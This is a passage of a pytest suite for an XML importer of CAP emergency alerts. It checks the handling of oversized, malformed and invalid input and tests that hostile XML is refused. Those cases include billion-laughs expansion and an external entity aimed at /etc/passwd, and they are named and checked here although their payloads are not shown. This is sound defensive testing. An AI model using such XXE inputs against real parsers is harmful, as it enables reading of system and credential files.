    '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE alert>\n'
).encode()


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_DTD],
    ids=["billion-laughs", "external-entity-etc-passwd", "external-dtd", "parameter-entity", "any-dtd"],
)
def test_hostile_xml_is_refused(data: bytes) -> None:
    with pytest.raises(UnsafeXml) as caught:
        from_xml(data)
    assert "root:" not in str(caught.value)
    assert caught.value.status == 400 and caught.value.code == "unsafe_xml"


def test_oversized_documents_are_refused_before_parsing() -> None:
    with pytest.raises(PayloadTooLarge):
        from_xml(b"<" * 1_048_577)  # would be MalformedInput if it were parsed
    padded = BASE.encode().replace(b"</alert>", b"<!--" + b"x" * 2000 + b"--></alert>")
    with pytest.raises(PayloadTooLarge):
        from_xml(padded, max_bytes=2000)
    assert from_xml(padded, max_bytes=len(padded)).identifier == "SZMB-2024-0042"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        BASE.encode().replace(b"</alert>", b""),
        BASE.encode().replace(b"</event>", b"</evnt>", 1),
        mutate("<headline>Rainstorm yellow warning</headline>", "<headline>A&nbsp;B</headline>"),
        BASE.encode().replace(b'encoding="UTF-8"', b'encoding="x-no-such-charset"'),
        b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">\xe6\x9a</alert>',
    ],
    ids=["empty", "text", "unclosed", "mismatched-tag", "undefined-entity", "unknown-encoding", "invalid-utf8"],
)
def test_malformed_xml_is_refused(data: bytes) -> None:
    with pytest.raises(MalformedInput) as caught:
        from_xml(data)
    assert type(caught.value) is MalformedInput
    assert caught.value.field is None


@pytest.mark.parametrize(
    "data",
    [
        BASE.replace(CAP_NAMESPACE, "urn:oasis:names:tc:emergency:cap:1.1").encode(),
        BASE.replace(f' xmlns="{CAP_NAMESPACE}"', "").encode(),
        b'<feed xmlns="http://www.w3.org/2005/Atom"><title>alerts</title></feed>',
        BASE.replace("<alert ", "<message ").replace("</alert>", "</message>").encode(),
    ],
    ids=["cap-1.1-namespace", "no-namespace", "atom-feed", "wrong-root"],
)
def test_wrong_root_or_namespace_is_refused(data: bytes) -> None:
    with pytest.raises(MalformedInput) as caught:
        from_xml(data)
    assert type(caught.value) is MalformedInput
    assert caught.value.field == "alert"


# ---------------------------------------------------------------------------------------------
# Invalid CAP: each error names the element with its CAP path
# ---------------------------------------------------------------------------------------------

RESOURCE = "<resource><resourceDesc>map</resourceDesc><mimeType>image/png</mimeType>{}</resource>"


@pytest.mark.parametrize(
    ("old", "new", "occurrence", "field", "message"),
    [
        # Message types this service does not import.
        ("<msgType>Alert</msgType>", "<msgType>Ack</msgType>", 1, "msgType", "Ack"),
        ("<msgType>Alert</msgType>", "<msgType>Error</msgType>", 1, "msgType", "Error"),
        ("<msgType>Alert</msgType>", "<msgType>Notice</msgType>", 1, "msgType", "Alert, Update, Cancel"),
        ("<msgType>Alert</msgType>", "<msgType>Update</msgType>", 1, "references", "reference"),
        # Required elements.
        ("<event>Rainstorm</event>", "", 1, "info[1].event", "required"),
        ("<event>暴雨</event>", "<event>  </event>", 1, "info[0].event", "empty"),
        ("<event>暴雨</event>", "<event><b>暴雨</b></event>", 1, "info[0].event", "text"),
        ("<identifier>SZMB-2024-0042</identifier>", "", 1, "identifier", "required"),
        ("<identifier>SZMB-2024-0042</identifier>", "<identifier>SZMB 2024</identifier>", 1, "identifier", "spaces"),
        ("<category>Met</category>", "", 2, "info[1].category", "category"),
        ("<areaDesc>福田区</areaDesc>", "<areaDesc/>", 1, "info[0].area[0].areaDesc", "empty"),
        ("<valueName>GB/T 2260</valueName>", "", 1, "info[1].area[1].geocode[0].valueName", "required"),
        ("<value>440305</value>", "", 1, "info[1].area[1].geocode[0].value", "required"),
        ("<scope>Public</scope>", "<scope>Restricted</scope>", 1, "restriction", "restriction"),
        # Enumerations.
        ("<urgency>Immediate</urgency>", "<urgency>Soon</urgency>", 1, "info[0].urgency", "Immediate, Expected"),
        ("<urgency>Immediate</urgency>", "<urgency>immediate</urgency>", 2, "info[1].urgency", "Immediate"),
        ("<severity>Moderate</severity>", "<severity>Orange</severity>", 2, "info[1].severity", "Extreme"),
        ("<category>Met</category>", "<category>Weather</category>", 1, "info[0].category[0]", "Met"),
        ("<status>Actual</status>", "<status>Real</status>", 1, "status", "Actual"),
        # Repeated where CAP allows one.
        (
            "<urgency>Immediate</urgency>",
            "<urgency>Immediate</urgency><urgency>Future</urgency>",
            1,
            "info[0].urgency",
            "once",
        ),
        # Geometry.
        (NANSHAN_RING, "22.60,113.85 22.60,113.98 22.48,113.98", 1, "info[1].area[1].polygon[0]", "at least 4"),
        (
            NANSHAN_RING,
            "22.60,113.85 22.60,113.98 22.48,113.98 22.48,113.85",
            1,
            "info[1].area[1].polygon[0]",
            "not closed",
        ),
        (
            NANSHAN_RING,
            "22.60,113.85 22.60,113.98 22.48,113.98 22.48,113.85 22.61,113.85",
            1,
            "info[1].area[1].polygon[0]",
            "not closed",
        ),
        (
            "22.58,114.00 22.58,114.10 22.50,114.10",
            "95.0,114.00 22.58,114.10 22.50,114.10",
            1,
            "info[0].area[0].polygon[0]",
            "latitude 95.0",
        ),
        ("22.58,114.10 22.50,114.10", "22.58,194.10 22.50,114.10", 2, "info[1].area[0].polygon[0]", "longitude 194.1"),
        (
            NANSHAN_RING,
            NANSHAN_RING.replace("22.48,113.98", "22.48;113.98"),
            1,
            "info[1].area[1].polygon[0]",
            "lat,lon",
        ),
        (NANSHAN_RING, NANSHAN_RING.replace("113.98", "1.1e2"), 1, "info[1].area[1].polygon[0]", "decimal"),
        (NANSHAN_RING, NANSHAN_RING.replace("113.98", "NaN"), 1, "info[1].area[1].polygon[0]", "decimal"),
        ("<circle>22.53,113.93 5</circle>", "<circle>22.53,113.93</circle>", 1, "info[1].area[1].circle[0]", "radius"),
        (
            "<circle>22.53,113.93 5</circle>",
            "<circle>22.53,113.93 -5</circle>",
            1,
            "info[1].area[1].circle[0]",
            "radius",
        ),
        (
            "<circle>22.53,113.93 5</circle>",
            "<circle>-91,113.93 5</circle>",
            1,
            "info[1].area[1].circle[0]",
            "latitude",
        ),
        (
            "</geocode>\n    </area>",
            "</geocode><altitude>high</altitude>\n    </area>",
            1,
            "info[1].area[1].altitude",
            "decimal",
        ),
        (
            "</geocode>\n    </area>",
            "</geocode><ceiling>100</ceiling>\n    </area>",
            1,
            "info[1].area[1].ceiling",
            "altitude",
        ),
        # Times.
        ("<sent>2024-06-12T06:20:00+08:00</sent>", "<sent>2024-06-12T06:20:00</sent>", 1, "sent", "offset"),
        (
            "<onset>2024-06-12T06:20:00+08:00</onset>",
            "<onset>2024-06-12T06:20:00</onset>",
            1,
            "info[0].onset",
            "offset",
        ),
        (
            "<expires>2024-06-12T12:00:00+08:00</expires>",
            "<expires>2024-06-12T06:00:00+08:00</expires>",
            1,
            "info[0].expires",
            "later than onset",
        ),
        # Info and resource details.
        ("<language>en</language>", "<language>English (UK)</language>", 1, "info[1].language", "language"),
        (
            "<headline>暴雨黄色预警</headline>",
            "<headline>暴雨黄色预警</headline>" + RESOURCE.format("<size>12kB</size>"),
            1,
            "info[0].resource[0].size",
            "whole number",
        ),
        (
            "<headline>暴雨黄色预警</headline>",
            "<headline>暴雨黄色预警</headline><resource><resourceDesc>map</resourceDesc></resource>",
            1,
            "info[0].resource[0].mimeType",
            "required",
        ),
        (
            "<headline>暴雨黄色预警</headline>",
            "<headline>暴雨黄色预警</headline>" + RESOURCE.format("<size>-1</size>"),
            1,
            "info[0].resource[0].size",
            "negative",
        ),
        ("<scope>Public</scope>", "<scope>Public</scope><references>a,b</references>", 1, "references", "sender"),
    ],
)
def test_invalid_cap_names_the_field(old: str, new: str, occurrence: int, field: str, message: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        from_xml(mutate(old, new, occurrence))
    assert type(caught.value) is InvalidInput
    assert caught.value.field == field
    assert message in caught.value.message
    assert caught.value.status == 422
